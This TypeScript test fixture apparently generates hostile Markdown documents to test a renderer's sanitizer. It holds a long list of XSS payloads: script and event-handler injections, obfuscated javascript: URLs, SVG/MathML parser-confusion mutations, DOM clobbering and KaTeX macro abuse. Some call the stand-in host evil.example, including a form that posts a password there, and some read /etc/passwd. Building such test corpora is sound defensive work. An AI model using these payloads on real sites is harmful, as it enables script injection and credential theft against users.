/** A document that wants to harm whoever reads it. `name` says what is tried, where and behind what. */
export type UnsafeDocument = { readonly name: string; readonly markdown: string };

const TAB = "\t";
const NUL = "\u0000";

/** Elements that run, load, cover, submit or redirect. */
const ELEMENTS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<script/x>alert(1)</script>",
  "<<script>alert(1)//<</script>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "<embed src='//evil.example/x.swf'>",
  "<applet code=x></applet>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
  "<form action=https://evil.example><input name=password><button>go</button></form>",
  "<input type=image src=https://evil.example/x.png onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<select autofocus onfocus=alert(1)><option>x</select>",
  "<keygen autofocus onfocus=alert(1)>",
  "<video src=x onerror=alert(1) autoplay></video>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=https://evil.example/x.mp3 autoplay></audio>",
  "<picture><source srcset=https://evil.example/x.png><img src=x></picture>",
  "<body onload=alert(1)>",
  "<html onmouseover=alert(1)>",
  "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>",
  "<portal src=https://evil.example></portal>",
  "<x-element is=script onclick=alert(1)>x</x-element>",
];

/** Attributes on elements that are themselves allowed. */
const ATTRIBUTES = [
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.gif>",
  "<img src=//evil.example/pixel.gif>",
  "<img src='/\\evil.example/pixel.gif'>",
  "<img src=x srcset='https://evil.example/pixel.gif 1x'>",
  "<img src='javascript:alert(1)'>",
  "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
  "<img/src=x/onerror=alert(1)>",
  '<img src="x"onerror="alert(1)">',
  "<img src=`x` onerror=alert(1)>",
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  "<b onclick=alert(1) onmouseover='alert(1)'>x</b>",
  "<b OnClIcK=alert(1)>x</b>",
  `<b${TAB}onclick${TAB}=${TAB}alert(1)>x</b>`,
  "<b/onclick=alert(1)/x>x</b>",
  "<b style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</b>",
  "<b style='width:expression(alert(1))'>x</b>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<summary onclick=alert(1)>x</summary>",
  "<kbd accesskey=x onclick=alert(1) contenteditable>x</kbd>",
  "<p class='katex' style='position:fixed'>x</p>",
  "<span class=katex><span style='background:url(//evil.example)'>x</span></span>",
  "<table background=https://evil.example/x.png><tr><td background=javascript:alert(1)>x</table>",
  "<ol start=1 onclick=alert(1)><li value=x onclick=alert(1)>x</ol>",
  "<q cite=javascript:alert(1)>x</q>",
  "<del cite=javascript:alert(1) datetime=x>x</del>",
  "<code class='language-math' onclick=alert(1)>\\href{javascript:alert(1)}{x}</code>",
  "<pre class='language-mermaid'><code class='language-mermaid'>flowchart LR\nA[<img src=x onerror=alert(1)>] --> B</code></pre>",
];

const SCRIPT_ADDRESSES = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "javascript&#x3a;alert(1)",
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "java&#9;script:alert(1)",
  "&#1;javascript:alert(1)",
  "&#32;javascript:alert(1)",
  "\u00a0javascript:alert(1)",
  "\u2028javascript:alert(1)",
  "\u0001javascript:alert(1)",
  `java${NUL}script:alert(1)`,
  "%6A%61vascript:alert(1)",
  "javascript:javascript:alert(1)",
  "javascript://example.org/%0Aalert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "DATA:image/svg+xml,<svg onload=alert(1)>",
  "blob:https://evil.example/1",
  "filesystem:https://evil.example/1",
  "file:///etc/passwd",
  "feed:javascript:alert(1)",
  "view-source:javascript:alert(1)",
  "x:javascript:alert(1)",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "https:evil.example",
];
const quoted = (address: string) => address.replaceAll("'", "&#39;");
const ADDRESSES = SCRIPT_ADDRESSES.flatMap((address) => [`<a href='${quoted(address)}'>x</a>`, address]);

/** Content that means one thing to one parser and another to the next. */
const CONFUSIONS = [
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//",
  "<svg><script>alert&#40;1)</script></svg>",
  "<svg><script href=https://evil.example/x.js /></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
  "<svg><use href='https://evil.example/x.svg#a'/><image href='https://evil.example/x.png'/></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><set attributeName=href to=javascript:alert(1)></set></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<svg><title><p><style><!--</style><img src=x onerror=alert(1)>--></title></svg>",
  "<svg><desc><table><style><!--</style><img src=x onerror=alert(1)>--></desc></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math href='javascript:alert(1)'>x</math>",
  "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
  "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
  "<math><semantics><annotation encoding='application/x-tex'><script>alert(1)</script></annotation></semantics></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  "<template><img src=x onerror=alert(1)></template>",
  "<template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  "<plaintext><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
  "</p></div></section></main></body><img src=x onerror=alert(1)>",
  "<table><td><a href=javascript:alert(1)>x</table><img src=x onerror=alert(1)>",
  "<a href='x'><a href='javascript:alert(1)'>x</a></a>",
  `<img src=x${NUL} onerror=alert(1)>`,
  "＜script＞alert(1)＜/script＞",
  "&lt;img src=x onerror=alert(1)&gt;",
  "\u202e<img src=x onerror=alert(1)>",
];

/** Names that shadow what scripts of the page look up. */
const NAMES = [
  "<a id=location name=cookie>x</a>",
  "<b id=__proto__>x</b>",
  "<img name=getElementById src=x>",
  "<form id=attributes><input name=id></form>",
  "<h3 id=__next>x</h3>",
  "<li id=fn-x>x</li>",
  "<section data-footnotes><ol><li id='fn-1\" onclick=alert(1)'>x</ol></section>",
  "<a data-footnote-ref href='#fn-x' id=fnref-x>x</a>",
];

const FORMULAS = [
  "\\href{javascript:alert(1)}{x}",
  "\\url{javascript:alert(1)}",
  "\\includegraphics[width=9em]{https://evil.example/x.png}",
  '\\htmlData{x="><img src=x onerror=alert(1)>}{x}',
  "\\htmlStyle{background:url(https://evil.example)}{x}",
  "\\htmlId{location}{x}",
  '\\htmlClass{x" onclick=alert(1)}{x}',
  "\\text{</annotation><img src=x onerror=alert(1)>}",
  "\\color{red;background:url(//evil.example)}{x}",
  "\\rule{99999em}{99999em}",
  "\\unicode{x3c}script\\unicode{x3e}",
];

export const PAYLOADS: readonly string[] = [
  ...ELEMENTS,
  ...ATTRIBUTES,
  ...ADDRESSES,
  ...CONFUSIONS,
  ...NAMES,
  ...FORMULAS,
];

const line = (payload: string) => payload.replaceAll("\n", " ");
const fence = (info: string, body: string) => `\`\`\`${info}\n${body}\n\`\`\``;

/** Places of a document in which a payload can stand. */
export const CONTEXTS: Readonly<Record<string, (payload: string) => string>> = {
  paragraph: (payload) => `文字 ${payload} 文字`,
  block: (payload) => payload,
  heading: (payload) => `### ${line(payload)}`,
  list: (payload) => `- ${line(payload)}\n  - [x] ${line(payload)}`,
  quote: (payload) => `> ${line(payload)}`,
  table: (payload) =>
    `| ${line(payload).replaceAll("|", "\\|")} | b |\n|---|---|\n| c | ${line(payload).replaceAll("|", "\\|")} |`,
  footnote: (payload) => `a[^${line(payload).replace(/[[\]\s]/g, "")}] b[^n]\n\n[^n]: ${line(payload)}`,
  "link text": (payload) => `[${line(payload)}](https://example.org)`,
  "link address": (payload) => `[x](<${line(payload).replaceAll("<", "\\<")}>)`,
  "bare link address": (payload) => `[x](${line(payload).replaceAll(" ", "")})`,
  "link title": (payload) => `[x](https://example.org "${line(payload).replaceAll('"', "&quot;")}")`,
  "image text": (payload) => `![${line(payload)}](/a.png)`,
  "image address": (payload) => `![x](<${line(payload).replaceAll("<", "\\<")}>)`,
  reference: (payload) =>
    `[x] ![x]\n\n[x]: <${line(payload).replaceAll("<", "\\<")}> '${line(payload).replaceAll("'", "&#39;")}'`,
  autolink: (payload) => `<${line(payload)}> https://example.org/${line(payload)}`,
  attribute: (payload) => `<a title="${payload}" href="${payload}">x</a>`,
  "inline code": (payload) => `\`${payload}\` \`\``,
  code: (payload) => fence("html", payload),
  "code language": (payload) => fence(line(payload).replaceAll("`", ""), "x"),
  formula: (payload) => `$${line(payload)}$`,
  "formula block": (payload) => `$$\n\\text{${line(payload)}} ${line(payload)}\n$$`,
  "diagram node": (payload) => fence("mermaid", `flowchart LR\n  A["${line(payload)}"] -->|${line(payload)}| B`),
  "diagram message": (payload) =>
    fence("mermaid", `sequenceDiagram\n  A->>B: ${line(payload)}\n  Note over A: ${line(payload)}`),
  "diagram click": (payload) =>
    fence(
      "mermaid",
      `%%{init: ${line(payload)}}%%\nflowchart LR\n  A --> B\n  click A "${line(payload)}"\n  style A fill:${line(payload)}`,
    ),
  "diagram title": (payload) =>
    fence(
      "mermaid",
      `stateDiagram-v2\n  accTitle: ${line(payload)}\n  s: ${line(payload)}\n  s --> t: ${line(payload)}`,
    ),
};

/** What the document has left open, or hides behind, before the payload comes. */
const SURROUNDINGS: Readonly<Record<string, (markdown: string) => string>> = {
  plain: (markdown) => markdown,
  "unclosed details": (markdown) => `<details><summary>x\n\n${markdown}`,
  "unclosed table": (markdown) => `<table><tr><td>\n\n${markdown}\n\n</table>`,
  "after an open comment": (markdown) => `a <b title="<!--">\n\n${markdown}\n\n-->`,
};

/** Every payload in every place in every surrounding, in a fixed order. */
export function unsafeDocuments(): UnsafeDocument[] {
  return PAYLOADS.flatMap((payload) =>
    Object.entries(CONTEXTS).flatMap(([context, place]) =>
      Object.entries(SURROUNDINGS).map(([surrounding, surround]) => ({
        name: `${JSON.stringify(payload)} · ${context} · ${surrounding}`,
        markdown: surround(place(payload)),
      })),
    ),
  );
}

/** A tenth of them, the same ones each time, with every payload and every place among them. */
export function sampleOfUnsafeDocuments(): UnsafeDocument[] {
  const row = Object.keys(CONTEXTS).length * Object.keys(SURROUNDINGS).length;
  return unsafeDocuments().filter((_document, index) => (index + Math.floor(index / row)) % 10 === 0);
}
